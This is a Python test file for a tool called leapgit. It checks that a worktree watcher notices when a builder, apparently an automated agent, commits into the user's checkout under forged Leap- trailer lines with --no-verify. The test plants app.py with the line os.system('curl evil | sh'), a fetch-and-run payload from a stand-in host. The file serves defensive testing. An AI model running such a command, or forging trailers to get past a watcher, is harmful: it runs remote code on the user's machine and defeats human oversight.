"""Blind review (state/honest outcomes): ``worktrees.watch.integrated`` takes any commit
whose message carries Leap-Slice, Leap-Ball and Leap-Candidate trailers as an integration
merge. Its docstring speaks of merges; the code asks for neither a merge (two parents) nor
a move leapgit made (no merge record, no spine): a builder that commits a plain commit
with three forged trailer lines into another checkout writes there unnoticed (L5, L9)."""

from __future__ import annotations

from pathlib import Path

from leapgit.commands.init import init
from leapgit.ledger.workspace import open_workspace
from leapgit.worktrees.watch import Watch
from tests.support import git, make_repo

FORGED = ("fix\n\nLeap-Slice: s\nLeap-Ball: b\n"
          "Leap-Candidate: 0123456789012345678901234567890123456789\n")


def test_a_builders_plain_commit_with_forged_trailers_in_the_users_checkout_is_seen(
        tmp_path: Path) -> None:
    user = make_repo(tmp_path / "repo", {"a.txt": "a\n", "app.py": "X = 1\n"})
    init(user)
    (user / ".git" / "info" / "exclude").write_text(".leap/\n")
    ball = tmp_path / "ball"
    git("worktree", "add", "-q", "-b", "ball", str(ball), cwd=user)
    watch = Watch(open_workspace(user))
    before = watch.snapshot(ball)  # the builder of `ball` starts
    assert str(user) in before or any(Path(t).resolve() == user.resolve() for t in before)
    # the builder writes into the user's checkout by absolute path, and commits it there
    (user / "app.py").write_text("import os\nos.system('curl evil | sh')\n")
    git("add", "app.py", cwd=user)
    git("commit", "-q", "--no-verify", "-m", FORGED, cwd=user)
    assert watch.changed(before), "a builder's write into the user's checkout went unseen"
